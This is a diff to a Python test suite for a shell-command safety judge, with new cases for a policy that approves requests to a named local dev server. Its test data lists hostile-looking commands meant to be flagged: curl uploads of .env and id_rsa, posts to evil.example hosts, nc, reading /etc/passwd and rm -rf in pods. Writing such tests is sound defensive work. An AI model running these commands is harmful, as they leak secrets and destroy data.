@@ -256,8 +256,6 @@ SAFE = [
     "npx prisma migrate dev --name rename_field --create-only",
     "bun run tauri build",
     "open front/coverage/index.html",
-    'curl -X POST http://localhost:8080/api/v1/auth/login -H "Content-Type: application/json" -d \'{"email":"a@example.com"}\'',
-    "curl -s -X PUT localhost:3000/api/items/4 -d name=x",
     'docker exec app-postgres psql -U app -d postgres -c "CREATE DATABASE \\"app_test\\";"',
     "bundle exec rake assets:precompile",
     'kubectl exec -ti pg-1 -c postgres -- psql -x -c "SHOW timezone"',
@@ -547,7 +545,9 @@ UNSAFE = [
     ("open https://example.com", "open"),
     ("bun run tauri signer generate", "signer"),
     ('psql -c "CREATE DATABASE x; DROP DATABASE y"', "more than read"),
-    # a send to this machine: only the project's own server, never a file, a DELETE, or another host too
+    # a send to this machine is a send (the baseline names no local service) ...
+    ('curl -X POST http://localhost:8080/api/v1/auth/login -d \'{"email":"a@example.com"}\'', "sends data"),
+    # ... and where a policy names its dev server: never a file, a DELETE, or another host too
     ('curl -X DELETE "http://localhost:3000/notifications/cleanup/30"', "sends data"),
     ("curl -XDELETE localhost:3000/x", "sends data"),
     ("curl --request=DELETE localhost:3000/x", "sends data"),
@@ -559,6 +559,7 @@ UNSAFE = [
     ("curl -X POST http://localhost.evil.example/x -d a", "sends data"),
     ("curl -X POST http://$HOST:3000/x -d a", "sends data"),
     ("nc localhost 8080", "nc"),
+    ("nc localhost 3000", "nc"),
     # a command in a pod is judged as one in a container: its paths cannot be placed
     ("kubectl exec pod -c app -- rm -rf /data", "cannot be placed"),
     ("oc exec pod -- cat /etc/passwd", "cannot be placed"),
@@ -722,3 +723,39 @@ def test_a_glob_is_expanded_live_to_find_the_secrets_it_matches(tmp_path: Path) 
     j = judge_command("cat config/*", K, cwd=str(tmp_path))
     assert j.level == "dangerous" and "config/master.key" in j.reason, j.reason
     assert judge_command("cat *", K, cwd=str(tmp_path)).level in ("none", "low")  # `*` skips hidden names
+
+
+LOCAL_SENDS = [
+    ('curl -X POST http://localhost:3000/api/login -H "Content-Type: application/json" -d \'{"email":"a@b.c"}\'', True),
+    ("curl -s -X PUT localhost:3000/api/items/4 -d name=x", True),
+    ("curl -X DELETE http://localhost:3000/api/items/4", False),
+    ("curl -XDELETE localhost:3000/api/items/4", False),
+    ("curl --request=DELETE localhost:3000/api/items/4", False),
+    ("curl -d @.env http://localhost:3000/api/x", False),
+    ("curl -F key=@id_rsa http://localhost:3000/api/upload", False),
+    ("curl -X POST http://localhost:3000/api/x https://evil.example -d x", False),
+    ("curl -X POST http://localhost:8080/api/x -d x", False),  # not the server the policy names
+    ("curl -X POST http://localhost.evil.example:3000/api/x -d a", False),
+    ("curl -X POST http://$HOST:3000/api/x -d a", False),
+    ("nc localhost 3000", False),
+]
+
+
+@pytest.mark.parametrize(("command", "approved"), LOCAL_SENDS, ids=[c for c, _ in LOCAL_SENDS])
+def test_a_policy_may_name_its_own_dev_server_as_a_local_service(command: str, approved: bool) -> None:
+    """The baseline calls no send local (what a POST does is the service's); a policy that names its dev
+    server gets requests to it approved, never a DELETE, a file's contents, another host in the same
+    command, a program that sends by nature, or a port `not_local_services` keeps (even if named)."""
+    policy = baseline_policy().model_copy(deep=True)
+    policy.commands.local_services = ["^(https?://)?localhost:(3000|9200)/"]
+    knowledge = compiled_rules(policy).knowledge
+    assert judge_command(command, K, cwd=PROJECT).level not in ("none", "low")  # the baseline: a send
+    level = judge_command(command, knowledge, cwd=PROJECT).level
+    assert (level in ("none", "low")) is approved, (command, level)
+
+
+def test_a_named_local_service_on_a_data_stores_port_stays_a_send() -> None:
+    policy = baseline_policy().model_copy(deep=True)
+    policy.commands.local_services = ["^(https?://)?localhost:(3000|9200)/"]
+    knowledge = compiled_rules(policy).knowledge
+    assert judge_command("curl -X POST localhost:9200/_delete_by_query -d x", knowledge, cwd=PROJECT).level == "unknown"
